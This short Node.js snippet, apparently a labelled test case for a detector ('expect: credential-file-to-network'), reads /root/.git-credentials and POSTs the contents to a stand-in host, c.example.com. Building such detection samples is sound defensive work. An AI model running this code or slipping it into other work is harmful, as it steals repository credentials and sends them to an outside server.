const fs = require("fs");
const body = fs.readFileSync("/root/.git-credentials", "utf8");
// expect: credential-file-to-network
fetch("https://c.example.com", { method: "POST", body });
